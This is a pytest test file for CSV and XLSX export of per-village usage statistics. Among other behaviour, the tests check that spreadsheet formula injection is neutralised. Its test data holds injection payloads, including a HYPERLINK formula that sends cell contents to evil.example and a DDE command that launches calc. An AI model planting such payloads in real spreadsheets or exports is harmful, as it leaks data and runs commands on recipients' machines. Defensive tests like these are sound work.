"""Statistics tables as CSV and XLSX: figures read back from the files, spreadsheet-hostile
text kept harmless, no data kept apart from zero."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import date, timedelta

import openpyxl
import pytest

from wifidesa.stats import sheets
from wifidesa.stats.sheets import Column, Kind, Table, iter_csv, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+62 811 5555",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
]
COLUMNS = (
    Column("Desa"),
    Column("Hari", Kind.DATE),
    Column("Sesi", Kind.INTEGER),
    Column("Data (bytes)", Kind.OCTETS),
    Column("Jam online", Kind.SECONDS),
    Column("Kena kuota", Kind.PERCENT),
)
ROWS = [
    ("Desa Long Apari, Mahakam Ulu", date(2026, 3, 1), 1_234, 10**15, 90_000, 0.25),
    ("Sungai Payang — ċ ß 東", date(2026, 3, 2), 0, 0, 0, 0.0),
    ("Tanpa data", date(2026, 3, 3), None, None, None, None),
]


def table(rows: list[tuple[object, ...]] | Iterator[tuple[object, ...]] = ROWS) -> Table:
    return Table(title="Pemakaian per desa: Maret 2026", columns=COLUMNS, rows=rows)


def csv_rows(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline="")))


def test_csv_starts_with_a_byte_order_mark_and_reads_back_as_written() -> None:
    data = "".join(iter_csv(table()))

    assert data.startswith("\ufeff")
    assert data.encode("utf-8").startswith(b"\xef\xbb\xbf")
    rows = csv_rows(data.removeprefix("\ufeff"))
    assert rows == [
        [c.title for c in COLUMNS],
        ["Desa Long Apari, Mahakam Ulu", "2026-03-01", "1234", "1000000000000000", "90000", "0.25"],
        ["Sungai Payang — ċ ß 東", "2026-03-02", "0", "0", "0", "0.0"],
        ["Tanpa data", "2026-03-03", "", "", "", ""],  # no data is blank, not 0
    ]
    assert data.endswith("\r\n")


def test_csv_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula() -> None:
    rows = [(text, None, -5, None, None, None) for text in HOSTILE]
    hostile_header = Table("t", [Column("=cmd|' /C calc'!A0"), *COLUMNS[1:]], rows)

    read = csv_rows("".join(iter_csv(hostile_header)).removeprefix("\ufeff"))

    assert read[0][0] == "'=cmd|' /C calc'!A0"
    assert [r[0] for r in read[1:]] == ["'" + text for text in HOSTILE]
    assert [r[2] for r in read[1:]] == ["-5"] * len(HOSTILE)  # a number is not a formula


def test_csv_quotes_text_and_leaves_numbers_bare() -> None:
    data = "".join(iter_csv(table(ROWS[:1])))

    assert '"Desa Long Apari, Mahakam Ulu","2026-03-01",1234,1000000000000000,' in data


def test_csv_is_produced_one_row_at_a_time() -> None:
    taken: list[int] = []

    def rows() -> Iterator[tuple[object, ...]]:
        for n in range(3):
            taken.append(n)
            yield (f"desa {n}", date(2026, 1, 1), n, n, n, 0.5)

    pieces = iter_csv(table(rows()))
    assert next(pieces).startswith("\ufeff")
    assert taken == []  # the header is out before any row is read
    assert next(pieces).startswith('"desa 0"')
    assert taken == [0]


def test_write_csv_writes_the_same_file_to_a_stream() -> None:
    out = io.StringIO(newline="")
    write_csv(table(), out)

    assert out.getvalue() == "".join(iter_csv(table()))


@pytest.mark.parametrize(
    ("column", "value"),
    [
        (Column("n", Kind.INTEGER), "12"),
        (Column("n", Kind.INTEGER), 1.5),
        (Column("n", Kind.OCTETS), True),
        (Column("d", Kind.DATE), "2026-01-01"),
        (Column("p", Kind.PERCENT), float("nan")),
    ],
)
def test_a_value_of_the_wrong_kind_is_refused(column: Column, value: object) -> None:
    bad = Table("t", [column], [(value,)])
    with pytest.raises(TypeError):
        "".join(iter_csv(bad))
    with pytest.raises(TypeError):
        write_xlsx(bad, io.BytesIO())


def test_a_row_of_the_wrong_length_is_refused() -> None:
    with pytest.raises(ValueError, match="2 cells in a table of 6 columns"):
        "".join(iter_csv(table([("a", None)])))


def ooxml_unescape(text: str) -> str:
    """A control character as OOXML writes it (_x000D_): Excel reads it back as the
    character, openpyxl leaves an inline string's escape as it is."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def xlsx_bytes(source: Table) -> bytes:
    out = io.BytesIO()
    write_xlsx(source, out)
    return out.getvalue()


def test_xlsx_holds_numbers_as_numbers_and_days_as_dates() -> None:
    book = read_xlsx(xlsx_bytes(table()))
    sheet = book.active
    assert sheet is not None

    assert sheet.title == "Pemakaian per desa Maret 2026"  # ':' is not allowed in a name
    assert sheet["A1"].value == "Pemakaian per desa: Maret 2026"
    assert [c.value for c in sheet[3]] == [c.title for c in COLUMNS]
    first = sheet[4]
    assert first[0].value == "Desa Long Apari, Mahakam Ulu" and first[0].data_type == "s"
    assert first[1].value.date() == date(2026, 3, 1) and first[1].is_date
    assert first[2].value == 1_234 and first[2].data_type == "n"
    assert first[3].value == 10**15 and first[3].number_format == "#,##0"
    # 90,000 s as a spreadsheet duration: 25:00:00, which sums like any number
    assert first[4].value == timedelta(seconds=90_000)
    assert first[4].number_format == "[h]:mm:ss"
    assert first[5].value == 0.25 and first[5].number_format == "0.0%"
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:F6"
    assert sheet.column_dimensions["A"].width > 10


def test_xlsx_keeps_zero_apart_from_no_data() -> None:
    sheet = read_xlsx(xlsx_bytes(table())).active
    assert sheet is not None

    assert [c.value for c in sheet[5]][2:] == [0, 0, timedelta(0), 0]
    assert [c.value for c in sheet[6]][2:] == [None, None, None, None]
    assert sheet["A5"].value == "Sungai Payang — ċ ß 東"


def test_xlsx_stores_hostile_text_as_text_never_as_a_formula() -> None:
    rows = [(text, None, None, None, None, None) for text in HOSTILE]
    data = xlsx_bytes(table(rows))

    sheet = read_xlsx(data).active
    assert sheet is not None
    texts = [sheet.cell(row=4 + n, column=1).value for n in range(len(HOSTILE))]
    assert [ooxml_unescape(str(t)) for t in texts] == HOSTILE
    assert all(sheet.cell(row=4 + n, column=1).data_type == "s" for n in range(len(HOSTILE)))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere


def test_an_empty_table_is_a_sheet_with_its_title_and_header() -> None:
    sheet = read_xlsx(xlsx_bytes(table([]))).active
    assert sheet is not None

    assert sheet["A1"].value == "Pemakaian per desa: Maret 2026"
    assert [c.value for c in sheet[3]] == [c.title for c in COLUMNS]
    assert sheet.max_row == 3


def test_rows_past_the_last_excel_row_go_on_to_a_next_sheet(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(sheets, "XLSX_MAX_ROWS", 6)  # three data rows a sheet
    rows = [(f"desa {n}", None, n, None, None, None) for n in range(7)]

    book = read_xlsx(xlsx_bytes(table(rows)))

    assert book.sheetnames == [
        "Pemakaian per desa Maret 2026",
        "Pemakaian per desa Maret 20 (2)",
        "Pemakaian per desa Maret 20 (3)",
    ]
    counts = [[c.value for c in s["C"][3:]] for s in book.worksheets]
    assert counts == [[0, 1, 2], [3, 4, 5], [6]]
    assert [s["C3"].value for s in book.worksheets] == ["Sesi"] * 3


def test_xlsx_is_written_to_a_path(tmp_path: pytest.TempPathFactory) -> None:
    path = tmp_path / "export.xlsx"  # type: ignore[operator]
    write_xlsx(table(), path)

    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None and sheet["A4"].value == "Desa Long Apari, Mahakam Ulu"


def test_a_big_xlsx_is_written_in_constant_memory() -> None:
    def rows(count: int) -> Iterator[tuple[object, ...]]:
        day = date(2026, 1, 1)
        for n in range(count):
            yield (f"Desa {n}", day, n, n * 1_000_003, n * 7, (n % 100) / 100)

    def peak(count: int) -> int:
        tracemalloc.start()
        try:
            write_xlsx(table(rows(count)), io.BytesIO())
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small, big = peak(1_000), peak(20_000)
    # 20 times the rows, about the same memory (the zip buffer aside, which grows slowly).
    assert big < small * 3, (small, big)


def test_a_sheet_name_has_no_forbidden_characters_and_fits() -> None:
    assert sheets.sheet_name("a/b\\c?d*e[f]g:h") == "a b c d e f g h"
    assert len(sheets.sheet_name("x" * 50)) == 31
    assert sheets.sheet_name("'':[]") == "Sheet1"


def test_several_tables_are_a_sheet_each_in_order_with_progress() -> None:
    heard: list[int] = []
    days = Table("Per hari", [Column("Hari", Kind.DATE)], [(date(2026, 3, d),) for d in (1, 2)])
    out = io.BytesIO()
    write_xlsx([table(), days], out, progress=heard.append)
    book = read_xlsx(out.getvalue())
    assert book.sheetnames == ["Pemakaian per desa Maret 2026", "Per hari"]
    assert book["Per hari"]["A5"].value.date() == date(2026, 3, 2)
    assert heard == [3, 5]  # after each table: the rows written so far
